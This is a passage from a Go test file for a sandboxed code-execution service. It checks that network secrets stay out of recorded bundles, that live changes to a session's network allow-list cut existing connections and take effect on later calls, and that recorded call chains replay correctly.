		t.Errorf("the bundle's request names the secrets %q", q.NetworkSecrets)
	}
	if m, _ := json.Marshal(b.Manifest); bytes.Contains(m, []byte(e.secret)) {
		t.Error("the bundle's manifest holds the secret")
	}
	obs.mu.Lock()
	defer obs.mu.Unlock()
	for _, ev := range obs.network {
		if strings.Contains(fmt.Sprint(ev), e.secret) {
			t.Errorf("the caller was told the secret: %+v", ev)
		}
	}
}

// slowReader holds a connection to allowed.test open, reading its /slow
// answer, and says how it ended.
const slowReader = `import socket, time
s = socket.create_connection(("allowed.test", 8080), timeout=90)
s.sendall(b"GET /slow HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
got = s.recv(4096)
print("connected", flush=True)
start = time.time()
try:
    while True:
        b = s.recv(4096)
        if not b:
            print("ended", flush=True)
            break
except OSError as e:
    print("cut", type(e).__name__, flush=True)
print("after %.1fs" % (time.time() - start), flush=True)
`

// testSessionNetworkChange changes a live session's allow-list: a
// connection under way to a host it no longer allows is cut, the next
// call reaches the newly allowed host and not the old one, "none" takes
// everything away, each call's bundle records the change before it, and
// the chain replays with the changes made again at the same calls.
func testSessionNetworkChange(t *testing.T, e *netEnv) {
	ctx := asOperator
	cidrRule := netpolicy.Rule{CIDR: e.cidr.Addr.String() + "/32", Ports: []uint16{8080}}
	info, err := e.svc.CreateSession(ctx, session.Request{Language: "python", Options: run.Options{
		Network: netpolicy.Request{Mode: netpolicy.AllowList, Policy: "web"}}})
	if err != nil {
		t.Fatalf("CreateSession() = %v", err)
	}
	t.Cleanup(func() { e.svc.DeleteSession(asOperator, info.ID) })
	p, err := e.svc.StartProcess(ctx, session.ProcessRequest{SessionID: info.ID, Command: run.Command{Argv: []string{"python3", "-c", slowReader}}})
	if err != nil {
		t.Fatalf("StartProcess() = %v", err)
	}
	var out []byte
	o := session.Output{}
	readUntil := func(want string) {
		t.Helper()
		for deadline := time.Now().Add(60 * time.Second); !strings.Contains(string(out), want); {
			if time.Now().After(deadline) {
				t.Fatalf("the process wrote %q, want %q", out, want)
			}
			if o, err = e.svc.ReadProcessOutput(ctx, info.ID, p.ID, o.Next, 0, 5*time.Second); err != nil {
				t.Fatalf("ReadProcessOutput() = %v", err)
			}
			out = append(out, o.Stdout...)
		}
	}
	readUntil("connected\n")

	changed, err := e.svc.UpdateSessionNetwork(ctx, info.ID, netpolicy.Request{Mode: netpolicy.AllowList, Rules: []netpolicy.Rule{cidrRule}})
	if err != nil {
		t.Fatalf("UpdateSessionNetwork() = %v", err)
	}
	if len(changed.Network.Rules) != 1 || changed.Network.Rules[0].String() != cidrRule.String() {
		t.Errorf("the session's policy after the change: %+v", changed.Network)
	}
	readUntil("after ")
	if !strings.Contains(string(out), "cut ConnectionResetError") {
		t.Errorf("the connection under way was not cut (a reset): %q", out)
	}
	var secs float64
	if _, err := fmt.Sscanf(string(out[strings.Index(string(out), "after ")+6:]), "%fs", &secs); err != nil || secs > 10 {
		t.Errorf("the connection lasted %.1fs after the change (%q), want it cut at once", secs, out)
	}

	fetch := `import json, urllib.request
res = {}
for name, url in [("old", "http://allowed.test:8080/"), ("new", "http://CIDR:8080/")]:
    try:
        res[name] = "ok:" + urllib.request.urlopen(url, timeout=10).read().decode()
    except Exception as e:
        res[name] = "err:" + type(e).__name__
print(json.dumps(res))`
	fetch = strings.ReplaceAll(fetch, "CIDR", e.cidr.Addr.String())
	res, obs := call(t, e.svc, info.ID, run.Request{Program: &run.Program{Language: "python", Code: fetch}})
	if got := string(obs.output(run.Stdout)); res.Status != run.StatusOK || !strings.Contains(got, `"old": "err:`) || !strings.Contains(got, `"new": "ok:hello from cidr"`) {
		t.Errorf("a call after the change: %s, %s", res.Status, got)
	}
	if _, err := e.svc.UpdateSessionNetwork(ctx, info.ID, netpolicy.Request{Mode: netpolicy.None}); err != nil {
		t.Fatalf("UpdateSessionNetwork(none) = %v", err)
	}
	last, obs := call(t, e.svc, info.ID, run.Request{Program: &run.Program{Language: "python", Code: fetch}})
	if got := string(obs.output(run.Stdout)); !strings.Contains(got, `"old": "err:`) || !strings.Contains(got, `"new": "err:`) {
		t.Errorf("a call after none: %s", got)
	}
	if _, err := e.svc.UpdateSessionNetwork(ctx, info.ID, netpolicy.Request{Mode: netpolicy.AllowList, Rules: []netpolicy.Rule{{Host: "evil.test"}}}); !errdefs.IsPermissionDenied(err) {
		t.Errorf("a change to a rule the operator does not permit: %v", err)
	}

	chain, err := reproducer.LoadChain(ctx, loadRecorded(t, e.svc, last.BundleDigest), e.svc)
	if err != nil || len(chain) != 2 {
		t.Fatalf("LoadChain() = %d bundles, %v", len(chain), err)
	}
	first, second := chain[0].Manifest().Run.Session, chain[1].Manifest().Run.Session
	if c := first.NetworkChanges; len(c) != 1 || len(c[0].Rules) != 1 || c[0].Rules[0].String() != cidrRule.String() || first.Create.Network == nil || first.Create.Network.Policy != "web" {
		t.Errorf("the first call's bundle records the changes %+v, the creation %+v", c, first.Create)
	}
	if c := second.NetworkChanges; len(c) != 1 || c[0].Mode != "none" {
		t.Errorf("the second call's bundle records the changes %+v", c)
	}
	rep, err := reproducer.ReplayChain(ctx, chain, e.svc, reproducer.Options{DefaultRuntime: e.s.target.OCIRuntime}, false)
	if err != nil || !rep.Reproduced || len(rep.Calls) != 2 {
		b, _ := json.MarshalIndent(rep, "", "  ")
		t.Fatalf("ReplayChain() = %v\n%s", err, b)
	}
	e.s.noContainerOfRun(t, rep.Session)
}
